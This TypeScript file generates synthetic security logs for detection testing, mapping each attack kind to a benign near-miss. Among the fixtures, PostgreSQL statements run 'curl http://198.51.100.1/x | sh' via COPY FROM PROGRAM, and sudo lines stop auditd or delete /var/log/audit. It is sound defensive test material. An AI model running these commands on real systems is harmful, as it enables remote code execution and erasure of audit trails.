/**
 * Attacks as they appear in logs, each with what comes closest to it without being one. They follow the definitions of the
 * requirements and of MITRE ATT&CK, and know nothing of the rules.
 */
import type { Scene } from './scene.ts'

export interface Kind {
  readonly name: string
  attack(scene: Scene): void
  nearMiss(scene: Scene): void
  /** It matters at which hour of a working day it begins, in Tokyo. */
  readonly hour?: number
}

const ACCOUNT = '123456789012'
const iamUser = (name: string) => ({
  type: 'IAMUser',
  arn: `arn:aws:iam::${ACCOUNT}:user/${name}`,
  accountId: ACCOUNT,
  accessKeyId: 'AKIAEXAMPLE',
  userName: name,
})
const ROOT = { type: 'Root', arn: `arn:aws:iam::${ACCOUNT}:root`, accountId: ACCOUNT, principalId: ACCOUNT }
const DENIED = { errorCode: 'AccessDenied', errorMessage: 'User is not authorized to perform this action' }

const times = (count: number, each: (n: number) => void) => {
  for (let n = 0; n < count; n += 1) each(n)
}
const port = (scene: Scene) => 1024 + scene.random.below(60_000)
const failed = (scene: Scene, second: number, whom: string, from: string) =>
  scene.sshd(second, `Failed password for ${whom} from ${from} port ${port(scene)} ssh2`)
const accepted = (scene: Scene, second: number, whom: string, from: string) =>
  scene.sshd(second, `Accepted password for ${whom} from ${from} port ${port(scene)} ssh2`)
/** A second more than what makes six within five minutes. */
const SLOW = 61

/** One call of AWS that succeeds, and the same call refused. */
function call(
  name: string,
  source: string,
  parameters: (scene: Scene) => object,
  harmless: (scene: Scene) => object,
): Pick<Kind, 'attack' | 'nearMiss'> {
  const record = (scene: Scene, fields: object) => ({
    eventName: name,
    eventSource: `${source}.amazonaws.com`,
    sourceIPAddress: scene.address(),
    userIdentity: iamUser(scene.person()),
    ...fields,
  })
  return {
    attack: (scene) => scene.cloudtrail(0, record(scene, { requestParameters: parameters(scene) })),
    nearMiss: (scene) => {
      scene.cloudtrail(0, record(scene, { requestParameters: parameters(scene), ...DENIED }))
      scene.cloudtrail(60, record(scene, harmless(scene)))
    },
  }
}

/** One statement in the log of PostgreSQL. */
function statement(
  written: readonly [string, ...string[]],
  harmless: readonly [string, ...string[]],
): Pick<Kind, 'attack' | 'nearMiss'> {
  const say = (scene: Scene, choices: readonly [string, ...string[]]) => {
    const text = scene.random.pick(choices).replaceAll('NAME', scene.person())
    scene.postgresql(0, { user: scene.person(), remote_host: scene.address(), message: `statement: ${text}` })
  }
  return { attack: (scene) => say(scene, written), nearMiss: (scene) => say(scene, harmless) }
}

/** So many events of a person within a time, and one fewer. */
function counted(
  least: number,
  seconds: number,
  each: (scene: Scene, second: number, who: string, n: number) => void,
) {
  const make = (scene: Scene, count: number) => {
    const who = scene.person()
    // The last comes before the time is over.
    const step = Math.min(30, (seconds - 1) / count)
    times(count, (n) => {
      each(scene, n * step, who, n)
    })
  }
  return {
    attack: (scene: Scene) => make(scene, least + scene.random.below(Math.ceil(least / 2))),
    nearMiss: (scene: Scene) => make(scene, least - 1),
  }
}

export const kinds: readonly Kind[] = [
  {
    name: 'password guessing from one address',
    attack: (scene) => {
      const from = scene.address()
      const whom = scene.person()
      const step = 1 + scene.random.below(40)
      times(6 + scene.random.below(20), (n) => failed(scene, n * step, whom, from))
    },
    nearMiss: (scene) => {
      const from = scene.address()
      // Of three people, so that it is no spraying either.
      const people = [scene.person(), scene.person(), scene.person()] as const
      times(12, (n) => failed(scene, n * SLOW, people[n % 3] ?? '', from))
    },
  },
  {
    name: 'password guessing from many addresses',
    attack: (scene) => {
      const whom = scene.person()
      times(6 + scene.random.below(20), (n) => failed(scene, n * 30, whom, scene.address()))
    },
    nearMiss: (scene) => {
      const whom = scene.person()
      times(12, (n) => failed(scene, n * SLOW, whom, scene.address()))
    },
  },
  {
    name: 'password spraying',
    attack: (scene) => {
      const from = scene.address()
      const step = 2 + scene.random.below(58)
      times(10 + scene.random.below(15), (n) =>
        failed(scene, n * step, `invalid user ${scene.person()}`, from),
      )
    },
    nearMiss: (scene) => {
      const from = scene.address()
      times(9, (n) => failed(scene, n * SLOW, scene.person(), from))
    },
  },
  {
    name: 'guessed password',
    attack: (scene) => {
      const [from, whom] = [scene.address(), scene.person()]
      const failures = 5 + scene.random.below(4)
      times(failures, (n) => failed(scene, n * 60, whom, from))
      accepted(scene, failures * 60, whom, from)
    },
    nearMiss: (scene) => {
      const [from, whom] = [scene.address(), scene.person()]
      times(4, (n) => failed(scene, n * 10, whom, from))
      accepted(scene, 60, whom, from)
      // Another person at the same gateway.
      failed(scene, 70, scene.person(), from)
      accepted(scene, 80, scene.person(), from)
    },
  },
  {
    name: 'enumeration of accounts',
    attack: (scene) => {
      const from = scene.address()
      times(10 + scene.random.below(20), (n) =>
        scene.sshd(n * 15, `Invalid user ${scene.person()} from ${from} port ${port(scene)}`),
      )
    },
    nearMiss: (scene) => {
      const from = scene.address()
      times(9, (n) => scene.sshd(n * 15, `Invalid user ${scene.person()} from ${from} port ${port(scene)}`))
    },
  },
  {
    name: 'login of root',
    attack: (scene) => accepted(scene, 0, 'root', scene.address()),
    nearMiss: (scene) => failed(scene, 0, 'rooty', scene.address()),
  },
  {
    name: 'refused sudo',
    attack: (scene) =>
      scene.sshd(
        0,
        `${scene.person()} : user NOT in sudoers ; TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh`,
        'sudo',
      ),
    nearMiss: (scene) =>
      scene.sshd(
        0,
        `${scene.person()} : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/apt update`,
        'sudo',
      ),
  },
  {
    name: 'stopping the logs of a host',
    attack: (scene) => {
      const command = scene.random.pick([
        '/usr/bin/systemctl stop auditd',
        '/bin/systemctl stop rsyslog.service',
        '/usr/bin/systemctl disable --now auditd.service',
        '/usr/sbin/service rsyslog stop',
        '/sbin/auditctl -e 0',
        '/usr/bin/rm -rf /var/log/audit',
      ])
      scene.sshd(0, `${scene.person()} : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=${command}`, 'sudo')
    },
    nearMiss: (scene) => {
      const command = scene.random.pick([
        '/usr/bin/systemctl status auditd',
        '/usr/bin/systemctl restart rsyslog',
        '/usr/bin/systemctl stop nginx',
        '/usr/sbin/auditctl -l',
      ])
      scene.sshd(0, `${scene.person()} : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=${command}`, 'sudo')
    },
  },
  {
    name: 'use of the root account of AWS',
    attack: (scene) =>
      scene.cloudtrail(0, {
        eventName: 'ListBuckets',
        eventSource: 's3.amazonaws.com',
        eventType: 'AwsApiCall',
        sourceIPAddress: scene.address(),
        userIdentity: ROOT,
      }),
    nearMiss: (scene) => {
      const common = {
        eventName: 'RotateKey',
        eventSource: 'kms.amazonaws.com',
        sourceIPAddress: 'kms.amazonaws.com',
      }
      scene.cloudtrail(0, { ...common, eventType: 'AwsServiceEvent', userIdentity: ROOT })
      scene.cloudtrail(9, { ...common, userIdentity: { ...ROOT, invokedBy: 'kms.amazonaws.com' } })
    },
  },
  {
    name: 'stopping the trail of AWS',
    ...call(
      'StopLogging',
      'cloudtrail',
      () => ({ name: 'main' }),
      () => ({ eventName: 'DescribeTrails', requestParameters: {} }),
    ),
  },
  {
    name: 'key for another user of AWS',
    ...call(
      'CreateAccessKey',
      'iam',
      (scene) => ({ userName: scene.person() }),
      (scene) => {
        const own = scene.person()
        return { userIdentity: iamUser(own), requestParameters: { userName: own } }
      },
    ),
  },
  {
    name: 'network opened to the world',
    ...call(
      'AuthorizeSecurityGroupIngress',
      'ec2',
      (scene) => ({
        groupId: 'sg-1',
        ipPermissions: {
          items: [
            permission(
              scene.random.pick([
                ['cidrIp', '0.0.0.0/0'],
                ['cidrIpv6', '::/0'],
              ]),
            ),
          ],
        },
      }),
      () => ({
        requestParameters: {
          groupId: 'sg-1',
          ipPermissions: { items: [permission(['cidrIp', '10.0.0.0/8'])] },
        },
      }),
    ),
  },
  {
    name: 'administrator rights in AWS',
    ...call(
      'AttachUserPolicy',
      'iam',
      (scene) => ({ userName: scene.person(), policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }),
      (scene) => ({
        requestParameters: { userName: scene.person(), policyArn: 'arn:aws:iam::aws:policy/ReadOnlyAccess' },
      }),
    ),
  },
  {
    name: 'guessing at the console of AWS',
    attack: (scene) => console(scene, 5 + scene.random.below(5)),
    nearMiss: (scene) => console(scene, 4),
  },
  {
    name: 'probing of permissions in AWS',
    attack: (scene) => probe(scene, 10 + scene.random.below(10)),
    nearMiss: (scene) => probe(scene, 9),
  },
  {
    name: 'superuser made in PostgreSQL',
    ...statement(
      [
        'ALTER ROLE NAME SUPERUSER',
        'alter user NAME with superuser',
        'CREATE ROLE NAME LOGIN BYPASSRLS',
        'create role NAME login replication',
      ],
      ['ALTER ROLE NAME NOSUPERUSER', 'create role NAME login', 'CREATE ROLE NAME NOBYPASSRLS NOREPLICATION'],
    ),
  },
  {
    name: 'program run by PostgreSQL',
    ...statement(
      ["COPY t FROM PROGRAM 'curl http://198.51.100.1/x | sh'", "copy (select 1) to program 'id'"],
      ["COPY t FROM '/srv/import/t.csv'", 'copy (select 1) to stdout', 'select program from schedule'],
    ),
  },
  {
    name: 'log of PostgreSQL weakened',
    ...statement(
      [
        "ALTER SYSTEM SET log_statement = 'none'",
        'alter role NAME set log_connections = off',
        "SET pgaudit.log = 'none'",
      ],
      ["ALTER SYSTEM SET work_mem = '64MB'", "set log_min_duration_statement = '1s'"],
    ),
  },
  {
    name: 'row security switched off',
    ...statement(
      [
        'ALTER TABLE orders DISABLE ROW LEVEL SECURITY',
        'drop policy p on orders',
        'ALTER TABLE orders NO FORCE ROW LEVEL SECURITY',
      ],
      ['ALTER TABLE orders ENABLE ROW LEVEL SECURITY', 'create policy p on orders using (true)'],
    ),
  },
  {
    name: 'mass drop in PostgreSQL',
    ...counted(10, 600, (scene, second, who, n) => {
      scene.postgresql(second, {
        user: who,
        remote_host: '10.0.0.9',
        message: `statement: DROP TABLE shop.t${n}`,
      })
    }),
  },
  {
    name: 'password guessing at PostgreSQL',
    attack: (scene) => login(scene, 6 + scene.random.below(10), 20),
    nearMiss: (scene) => login(scene, 12, SLOW),
  },
  {
    name: 'unusually many accesses to data',
    ...counted(101, 3600, (scene, second, who) => {
      scene.json(second, {
        event_type: 'read',
        event_category: 'data_access',
        user_id: who,
        resource_type: 'card',
      })
    }),
  },
  {
    name: 'role granted to oneself',
    attack: (scene) => grant(scene, true),
    nearMiss: (scene) => grant(scene, false),
  },
  {
    name: 'misuse of API keys',
    attack: (scene) => misuse(scene, 3 + scene.random.below(5)),
    nearMiss: (scene) => misuse(scene, 2),
  },
  {
    name: 'probing of permissions',
    ...counted(10, 600, (scene, second, who, n) => {
      scene.json(second, {
        event_type: 'permission_denied',
        event_category: 'authorization',
        user_id: who,
        resource_id: `r${n}`,
        result: 'failure',
      })
    }),
  },
  {
    name: 'unusually many operations',
    hour: 11,
    ...counted(101, 300, (scene, second, who) => {
      scene.trail(second, { user_id: who, operation: 'UPDATE' })
    }),
  },
  {
    name: 'unusually many accesses to confidential data',
    hour: 11,
    ...counted(11, 3600, (scene, second, who) => {
      scene.trail(second, { user_id: who, data_classification: 'confidential', operation: 'SELECT' })
    }),
  },
  {
    name: 'changes at night',
    hour: 23,
    ...counted(6, 3600, (scene, second, who, n) => {
      scene.trail(second, { user_id: who, operation: n % 2 === 0 ? 'UPDATE' : 'DELETE' })
    }),
  },
  {
    name: 'changes in the morning of a working day',
    hour: 9,
    // The counterpart of the kind above: nothing of this is an attack.
    attack: () => undefined,
    nearMiss: (scene) => {
      const who = scene.person()
      times(20, (n) => scene.trail(n * 60, { user_id: who, operation: 'UPDATE' }))
    },
  },
  {
    name: 'mass export',
    hour: 11,
    ...counted(20, 3600, (scene, second, who) => {
      scene.trail(second, { user_id: who, action: 'export', operation: null })
    }),
  },
  {
    name: 'second factor removed',
    attack: (scene) => factor(scene, 'mfa_removed'),
    nearMiss: (scene) => factor(scene, 'mfa_enrolled'),
  },
]

function permission([key, value]: readonly [string, string]): object {
  const ranges = key === 'cidrIp' ? 'ipRanges' : 'ipv6Ranges'
  return { ipProtocol: 'tcp', fromPort: 22, toPort: 22, [ranges]: { items: [{ [key]: value }] } }
}

function console(scene: Scene, count: number): void {
  const [from, who] = [scene.address(), scene.person()]
  times(count, (n) =>
    scene.cloudtrail(n * 20, {
      eventName: 'ConsoleLogin',
      eventSource: 'signin.amazonaws.com',
      sourceIPAddress: from,
      userIdentity: { type: 'IAMUser', accountId: ACCOUNT, userName: who },
      errorMessage: 'Failed authentication',
      responseElements: { ConsoleLogin: 'Failure' },
    }),
  )
}

function probe(scene: Scene, count: number): void {
  const [from, who] = [scene.address(), scene.person()]
  times(count, (n) =>
    scene.cloudtrail(n * 10, {
      eventName: `Describe${String.fromCharCode(65 + n)}Things`,
      eventSource: 'ec2.amazonaws.com',
      sourceIPAddress: from,
      userIdentity: iamUser(who),
      ...DENIED,
    }),
  )
}

function login(scene: Scene, count: number, step: number): void {
  const from = scene.address()
  const people = [scene.person(), scene.person(), scene.person()] as const
  times(count, (n) => {
    const user = people[n % 3] ?? ''
    scene.postgresql(n * step, {
      user,
      remote_host: from,
      error_severity: 'FATAL',
      state_code: '28P01',
      message: `password authentication failed for user "${user}"`,
    })
  })
}

function grant(scene: Scene, toOneself: boolean): void {
  const who = scene.person()
  scene.json(0, {
    event_type: 'role_granted',
    event_category: 'authorization',
    user_id: who,
    resource_type: 'user',
    resource_id: toOneself ? who : scene.person(),
    event_details: { role: 'auditor' },
  })
}

function misuse(scene: Scene, count: number): void {
  const from = scene.address()
  times(count, (n) =>
    scene.json(n * 30, {
      event_type: 'api_key_misuse',
      event_category: 'authentication',
      source_ip: from,
      user_id: scene.person(),
      result: 'failure',
    }),
  )
}

function factor(scene: Scene, type: string): void {
  scene.json(0, { event_type: type, event_category: 'authentication', user_id: scene.person() })
}
